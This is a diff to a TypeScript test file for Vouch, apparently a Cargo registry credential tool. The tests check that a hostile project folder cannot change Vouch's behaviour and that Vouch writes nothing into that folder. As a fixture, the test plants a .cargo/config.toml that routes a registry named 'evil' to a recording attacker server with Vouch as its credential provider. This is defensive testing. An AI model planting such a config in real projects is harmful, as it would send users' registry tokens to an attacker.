@@ -1,6 +1,6 @@
 /** The folder that a command is started in belongs to whoever wrote the project: nothing in it may change what Vouch does. */
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { cargoGet, executable, type Laptop, registryName, startLaptop } from "../laptop.ts";
 import { requires } from "../requires.ts";
@@ -9,6 +9,8 @@ import { crateUserProject } from "./projects.ts";
 let laptop: Laptop;
 let folder: string;
 let trap: string;
+/** What the attacker has put into the folder. */
+let planted: string[];
 /** The attacker's server: it notes every request that reaches it. */
 let attacker: Bun.Server<undefined>;
 const reached: { path: string; authorization: string | null }[] = [];
@@ -44,6 +46,7 @@ beforeAll(async () => {
     ".cargo/config.toml": `[registries.evil]\nindex = "sparse+${evil}/cargo/my-repo/"\ncredential-provider = [${JSON.stringify(executable)}]\n`,
   };
   for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
+  planted = readdirSync(folder);
   // Everything from the first command on happens in that folder, the agent's start by `vouch login` included.
   laptop.cwd = folder;
   await laptop.enroll();
@@ -89,8 +92,9 @@ describe("in a folder with .env, bunfig.toml, package.json, node_modules and tsc
     120_000,
   );
 
-  test("the settings are where they belong", () => {
-    expect(existsSync(join(folder, "vouch"))).toBe(false);
-    expect(readFileSync(join(folder, ".env"), "utf8")).toContain("VOUCH_RUNTIME_DIR");
+  test("Vouch has written nothing there: its settings and edits are in the home folder", () => {
+    const cargosOwn = new Set(["Cargo.lock", "target"]);
+    expect(readdirSync(folder).filter((name) => !cargosOwn.has(name))).toEqual(planted);
+    expect(readdirSync(join(laptop.home, ".config/vouch"))).toEqual(["config.json"]);
   });
 });
